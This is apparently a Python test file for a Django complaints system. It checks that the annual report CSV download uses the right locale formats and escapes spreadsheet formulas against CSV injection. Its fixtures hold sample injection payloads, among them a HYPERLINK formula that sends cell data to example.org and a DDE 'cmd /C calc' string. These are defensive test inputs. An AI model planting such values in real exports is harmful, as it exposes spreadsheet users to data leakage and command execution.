"""The annual report as CSV for spreadsheets (issue #10, 15).

Read back with the csv module as a spreadsheet would: the Dutch download in Dutch Excel's
format, the English one with English numbers and dates, counts beside every share, and no
cell that a spreadsheet would run as a formula (OWASP, "CSV Injection").
"""

from __future__ import annotations

import csv
import io

import pytest
import time_machine
from django.core.management import call_command
from django.test import Client

from klachten.organisation.models import Category, RootCause
from klachten.reports.insight import spreadsheet_cell
from klachten.reports.services import measure_record
from tests.conftest import PASSWORD
from tests.reports.conftest import LOOK

HYPERLINK = '=HYPERLINK("https://example.org/?q="&A1,"Klik hier")'


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(LOOK, tick=False):
        yield


def _download(staff, language: str) -> tuple[str, list[list[str]]]:
    client = Client()
    assert client.login(username=staff.username, password=PASSWORD)
    response = client.get(
        "/dashboard/jaarverslag/",
        {"jaar": "2026", "formaat": "csv"},
        headers={"Accept-Language": language},
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return text, list(csv.reader(io.StringIO(text), delimiter=";" if language == "nl" else ","))


def test_the_english_download_has_english_numbers_and_iso_dates(manager, world):
    text, rows = _download(manager, "en")
    assert rows[0] == [
        "Section",
        "Description",
        "Rule",
        "From",
        "Up to and including",
        "Number",
        "Applicable",
        "Percentage",
    ]
    assert ";" not in text
    r3 = next(
        row
        for row in rows
        if row[1] == "Contact within 24 working hours" and row[0] == "Compliance"
    )
    assert r3[2:] == ["R3", "2026-01-01", "2026-12-31", "3", "5", "60.0"]
    median = next(row for row in rows if row[1] == "Median time to contact (hours)")
    assert median[5] == "3.5"
    march = [row for row in rows if row[3] == "2026-03-01" and row[2] == "R3"]
    assert march[0][5:] == ["2", "4", "50.0"]
    assert not any("," in cell and cell.replace(",", "").isdigit() for row in rows for cell in row)


def test_the_dutch_download_stays_in_dutch_excels_format(manager, world):
    _text, rows = _download(manager, "nl")
    r3 = next(row for row in rows if row[0] == "Naleving" and row[2] == "R3")
    assert r3[3:] == ["01-01-2026", "31-12-2026", "3", "5", "60,0"]


@pytest.fixture
def formula_names(world, manager):
    Category.objects.filter(pk=world.planning.pk).update(name=HYPERLINK)
    RootCause.objects.filter(pk=world.timetable.pk).update(name="+31 20 123 4567")
    RootCause.objects.filter(pk=world.communication.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    measure_record(
        actor=manager,
        title="-2+3 minder wachttijd",
        description="",
        root_causes=[world.timetable],
        taken_on=LOOK.date(),
        now=LOOK,
    )


@pytest.mark.parametrize("language", ["nl", "en"])
def test_no_cell_of_the_download_starts_a_formula(manager, formula_names, language):
    _text, rows = _download(manager, language)
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert "'+31 20 123 4567" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert any(cell.startswith("'-2+3 minder wachttijd") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_command_escapes_formulas_too(formula_names, tmp_path):
    output = tmp_path / "jaarverslag.csv"
    call_command("report", year=2026, file_format="csv", output=str(output), stdout=io.StringIO())
    with output.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Planning", "Planning"),
        ("a=b", "a=b"),
        (12, "12"),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(value, cell):
    assert spreadsheet_cell(value) == cell
